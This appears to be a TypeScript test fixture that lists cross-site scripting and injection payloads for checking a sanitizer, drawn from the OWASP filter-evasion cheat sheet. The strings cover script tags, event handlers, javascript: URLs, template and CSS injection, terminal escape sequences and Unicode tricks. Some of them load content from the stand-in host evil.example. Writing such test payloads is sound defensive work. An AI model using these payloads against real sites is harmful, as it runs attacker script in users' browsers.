const RUN = 'window.__ran=1';
/** A host that nobody owns: a request to it is one too many. */
const AWAY = 'http://evil.example';
const ESC = '\u001b';

/**
 * Texts that ran somewhere once: by markup, by URLs, by templates, by styles, by terminals. After
 * https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
 */
export const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `</title></textarea></style></script><script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `"><svg onload=${RUN}>`,
  `' autofocus onfocus=${RUN} x='`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s><set attributeName=href to=javascript:${RUN}>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=9>xss</text></a></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe><object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<a href="javascript:${RUN}">xss</a> javascript:${RUN} JaVaScRiPt:${RUN} java\tscript:${RUN}`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg== vbscript:${RUN}`,
  `<details open ontoggle=${RUN}><video><source onerror=${RUN}></video><body onload=${RUN}>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}">xss</button></form>`,
  `<base href="${AWAY}/"><link rel=stylesheet href="${AWAY}/x.css"><meta http-equiv=refresh content="0;url=${AWAY}">`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %> #{${RUN}} [[${RUN}]]`,
  `<style>@import '${AWAY}/x.css';*{background:url(${AWAY}/x)}</style>`,
  `color:red;background:url(${AWAY}/xss);behavior:url(#x);width:expression(${RUN})`,
  `${ESC}]8;;javascript:${RUN}\u0007xss${ESC}]8;;\u0007 ${ESC}]8;;${AWAY}/${ESC}\\xss${ESC}]8;;${ESC}\\ ${ESC}[31m<b onclick=${RUN}>xss${ESC}[0m`,
  `\u202e>tpircs/<1=nar__.wodniw>tpircs<\u202c \u2066<script>${RUN}</script>\u2069 \uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt><img src=x one\u0000rror=${RUN}>\u0008\u007f\u009b`,
  `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62; \\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${RUN}>"}},"constructor":{"prototype":{"xss":1}}}`,
  `${AWAY}/?q=<script>${RUN}</script> https://evil.example"onmouseover="${RUN} //evil.example/xss`,
  `<custom-xss onclick=${RUN} contenteditable>${'A'.repeat(3000)}<img src=x onerror=${RUN}>`,
];

/** One that is short enough for a name. */
export const NAME_PAYLOAD = `<img src=x onerror="${RUN}">`;
